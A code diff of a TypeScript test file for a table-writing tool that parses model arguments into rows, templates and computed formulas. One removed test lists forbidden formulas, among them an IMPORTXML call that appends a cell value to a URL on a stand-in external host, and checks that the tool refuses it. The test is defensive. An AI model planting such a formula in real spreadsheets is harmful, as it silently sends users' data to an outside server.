@@ -1,56 +1,8 @@
 // write_table on its own: whatever shape a model gives its arguments, whole rows come out, each with where it stands.
 import { describe, expect, it } from 'vitest'
-import { createGrounder } from '../../shared/table/ground.ts'
 import { salesAnalysis } from '../../shared/template/built-in/sales-analysis.ts'
-import type { Template } from '../../shared/template/template.ts'
-import type { EngineEvent } from './engine.ts'
-import { createWriteTable, type WriteTableOptions } from './write-table.ts'
-
-type Start = Extract<EngineEvent, { type: 'table-start' }>
-type Rows = Extract<EngineEvent, { type: 'rows' }>
-type End = Extract<EngineEvent, { type: 'table-end' }>
-
-const text = 'Order 0042: Ada took 2 lamps at €1,200.50 on 31 March 2026. Order 0043: Bob took 3 chairs at €80.'
-
-const write = async (args: unknown, options: Partial<WriteTableOptions & { piece: number }> = {}) => {
-  const json = typeof args === 'string' ? args : JSON.stringify(args)
-  const call = createWriteTable({
-    table: 0,
-    template: null,
-    locale: undefined,
-    grounder: createGrounder([{ id: 'message:1', text }]),
-    announced: () => null,
-    ...options,
-  })
-  const events: EngineEvent[] = []
-  const size = options.piece ?? 7
-  for (let at = 0; at < json.length; at += size) {
-    for await (const event of call.feed(json.slice(at, at + size))) events.push(event)
-  }
-  const ending = call.end()
-  let wrong: string | null = null
-  for (;;) {
-    const next = await ending.next()
-    if (next.done) {
-      wrong = next.value
-      break
-    }
-    events.push(next.value)
-  }
-  if (wrong !== null) events.push(...call.close('failed'))
-  const start = events.find((event): event is Start => event.type === 'table-start')
-  const told = events.filter((event): event is Rows => event.type === 'rows')
-  const end = events.find((event): event is End => event.type === 'table-end')
-  return {
-    wrong,
-    events,
-    start,
-    names: start?.columns.map(({ name }) => name),
-    rows: told.flatMap(({ rows }) => rows),
-    evidence: told.flatMap(({ evidence }) => evidence ?? []),
-    receipt: end?.receipt,
-  }
-}
+import { text, write } from './testing/write-call.ts'
+import { createWriteTable } from './write-table.ts'
 
 const quoted = (evidence: unknown): string =>
   typeof evidence === 'object' && evidence !== null && 'start' in evidence && 'end' in evidence
@@ -184,6 +136,62 @@ describe('arguments of servers without strict schemas', () => {
     expect(made.receipt?.notes.join()).toContain('“Weight” of row 2')
   })
 
+  it('objects in rows become dotted columns, lists of objects a table with the key of their row', async () => {
+    let next = 1
+    const order = (Order: string, town: string, items: unknown[]) => ({
+      Order,
+      buyer: { name: 'Ada', town },
+      tags: ['a', 'b'],
+      items,
+    })
+    const made = await write(
+      {
+        title: 'Orders',
+        columns: [
+          { name: 'Order', type: 'text' },
+          { name: 'buyer', type: 'text' },
+        ],
+        rows: [
+          order('0042', 'Bern', [
+            { sku: 'x', qty: 2 },
+            { sku: 'y', qty: 1 },
+          ]),
+          order('0043', 'Rome', [{ sku: 'z', qty: 5 }]),
+        ],
+      },
+      { next: () => next++ },
+    )
+    const starts = made.events.flatMap((event) =>
+      event.type === 'table-start' ? [[event.table, event.title, event.columns.map(({ name }) => name)]] : [],
+    )
+    expect(starts).toEqual([
+      [0, 'Orders', ['Order', 'buyer.name', 'buyer.town', 'tags']],
+      [1, 'Orders: items', ['Order', 'sku', 'qty']],
+    ])
+    expect(made.rows).toEqual([
+      ['0042', 'Ada', 'Bern', 'a, b'],
+      ['0043', 'Ada', 'Rome', 'a, b'],
+      ['0042', 'x', 2],
+      ['0042', 'y', 1],
+      ['0043', 'z', 5],
+    ])
+    expect(made.events.filter((event) => event.type === 'table-end')).toHaveLength(2)
+  })
+
+  it('a list of words is one cell, and an object that comes late is kept as it is', async () => {
+    const made = await write({
+      ...plain,
+      rows: [
+        [['a', 'b'], '€5'],
+        [{ x: 1 }, '€6'],
+      ],
+    })
+    expect(made.rows).toEqual([
+      ['a, b', 5],
+      ['{"x":1}', 6],
+    ])
+  })
+
   it('a second currency in a column stays as it was written', async () => {
     const made = await write({
       ...plain,
@@ -221,135 +229,6 @@ describe('arguments of servers without strict schemas', () => {
       const made = await write(args, { template: salesAnalysis })
       expect(made.wrong).not.toBeNull()
       expect(made.events).toEqual([])
-    }
-  })
-})
-
-describe('a template', () => {
-  const row = (order: string, more: Record<string, unknown> = {}) => ({
-    order,
-    date: null,
-    customer: null,
-    product: null,
-    quantity: null,
-    unit_price: null,
-    total: null,
-    status: null,
-    more: [],
-    ...more,
-  })
-  const head = { title: 'Orders', rows_announced: null, more_columns: [] }
-
-  it('gives its columns, and computes what the text does not state', async () => {
-    const made = await write(
-      { ...head, rows: [row('0042', { quantity: '2', unit_price: '€1,200.50' }), row('0043')] },
-      { template: salesAnalysis },
-    )
-    expect(made.start?.columns[6]).toMatchObject({ key: 'total', formula: 'quantity*unit_price' })
-    expect(made.start?.columns[5]).toMatchObject({ type: 'currency', currency: 'EUR' })
-    expect(made.rows[0]?.[6]).toBe(2401)
-    expect(made.evidence[0]?.[6]).toBe('computed')
-    expect(made.receipt?.cells_computed).toBeGreaterThan(0)
-  })
-
-  it('takes totals that the text states as they are', async () => {
-    const made = await write(
-      { ...head, rows: [row('1', { quantity: '2', unit_price: '€5', total: '€11' })] },
-      { template: salesAnalysis },
-    )
-    expect(made.start?.columns[6]?.formula).toBeUndefined()
-    expect(made.rows[0]?.[6]).toBe(11)
-  })
-
-  it('names a stated value that the formula contradicts', async () => {
-    const made = await write(
-      {
-        ...head,
-        rows: [
-          row('1', { quantity: '2', unit_price: '€5' }),
-          row('2', { quantity: '2', unit_price: '€5', total: '€11' }),
-        ],
-      },
-      { template: salesAnalysis },
-    )
-    expect(made.rows[1]?.[6]).toBe(10)
-    expect(made.receipt?.notes.join()).toContain('row 2 states 11 for “Total”')
-  })
-
-  it('keeps a value that breaks a rule, and names its cell', async () => {
-    const made = await write({ ...head, rows: [row('1', { status: 'Pending' })] }, { template: salesAnalysis })
-    expect(made.rows[0]?.[7]).toBe('Pending')
-    expect(made.receipt?.notes.join()).toMatch(/“Status” is none of Open.*row 1 \(Pending\)/)
-  })
-
-  it('takes more columns, by list or by name, and rows as plain lists', async () => {
-    const more_columns = [{ name: 'Weight', type: 'number', currency: null, formula: null }]
-    const made = await write(
-      {
-        ...head,
-        more_columns,
-        rows: [row('1', { more: ['3'] }), row('2', { Weight: 4 }), ['3', ...Array(7).fill(null), '5']],
-      },
-      { template: salesAnalysis },
-    )
-    expect(made.names?.at(-1)).toBe('Weight')
-    expect(made.rows.map((cells) => [cells[0], cells[8]])).toEqual([
-      ['1', 3],
-      ['2', 4],
-      ['3', 5],
-    ])
-  })
-
-  it('a column of its own named “more” is no list', async () => {
-    const template: Template = {
-      ...salesAnalysis,
-      layout: {
-        ...salesAnalysis.layout,
-        columns: [{ ...salesAnalysis.layout.columns[0]!, key: 'more', header: 'More' }],
-      },
-      validation_rules: [],
-    }
-    const made = await write({ ...head, rows: [{ more: 'x', more_values: [] }] }, { template })
-    expect(made.rows).toEqual([['x']])
-  })
-
-  it('a model that names columns of its own is followed', async () => {
-    const made = await write(plain, { template: salesAnalysis })
-    expect(made.names).toEqual(['Order', 'Price'])
-    expect(made.rows).toEqual(cells)
-  })
-})
-
-describe('formulas', () => {
-  const formula = (written: string) => ({
-    title: 'T',
-    columns: [
-      { name: 'Unit price', type: 'number' },
-      { name: 'Qty', type: 'number' },
-      { name: 'Total', type: 'number', formula: written },
-    ],
-    rows: [['5', '3', null]],
-  })
-
-  it('over names in brackets are computed', async () => {
-    for (const written of ['[Unit price] * [Qty]', '=unit_price*qty']) {
-      const made = await write(formula(written))
-      expect(made.rows).toEqual([[5, 3, 15]])
-      expect(made.evidence[0]?.[2]).toBe('computed')
-    }
-  })
-
-  it('that are not allowed are refused with a note', async () => {
-    for (const written of [
-      'IMPORTXML("http://a.example/?" & [Qty], "//a")',
-      '[Nothing] * 2',
-      '[Total] + 1',
-      'HYPERLINK("x")',
-    ]) {
-      const made = await write(formula(written))
-      expect(made.rows).toEqual([[5, 3, null]])
-      expect(made.start?.columns[2]?.formula).toBeUndefined()
-      expect(made.receipt?.notes.join()).toContain('The formula for “Total” was not taken')
     }
   })
 })
